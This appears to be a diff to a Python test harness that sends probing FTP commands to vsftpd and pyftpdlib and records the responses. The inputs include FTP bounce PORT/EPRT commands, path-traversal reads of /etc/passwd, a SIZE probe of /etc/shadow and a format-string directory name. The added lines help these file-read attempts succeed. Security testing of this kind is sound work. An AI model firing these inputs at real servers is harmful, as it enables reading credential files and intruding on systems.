@@ -249,6 +249,8 @@ def session_bounce_vsftpd(args):
     result("EPRT |1|192.0.2.10|2121|", c.cmd(b"EPRT |1|192.0.2.10|2121|\r\n"))
     result("LIST after refused PORT", c.cmd(b"LIST\r\n"))
     result("CWD ../../../../etc", c.cmd(b"CWD ../../../../etc\r\n"))
+    # PASV first, so that vsftpd gets as far as opening the file
+    c.cmd(b"PASV\r\n")
     result("RETR ../../etc/passwd", c.cmd(b"RETR ../../etc/passwd\r\n"))
     for line in IAC_LINES:
         result(repr(line), c.cmd(line))
@@ -273,6 +275,7 @@ def session_bounce_pyftpd(args):
     result("PORT 127,0,0,9,78,34", c.cmd(b"PORT 127,0,0,9,78,34\r\n"))
     result("CWD ../../../../etc", c.cmd(b"CWD ../../../../etc\r\n"))
     result("RETR ../../etc/passwd", c.cmd(b"RETR ../../etc/passwd\r\n"))
+    c.cmd(b"TYPE I\r\n")             # pyftpdlib refuses SIZE in ASCII mode
     result("SIZE /etc/shadow", c.cmd(b"SIZE /etc/shadow\r\n"))
     result("CWD ~root", c.cmd(b"CWD ~root\r\n"))
     result("MKD %s%s%s%n", c.cmd(b"MKD %s%s%s%n\r\n"))
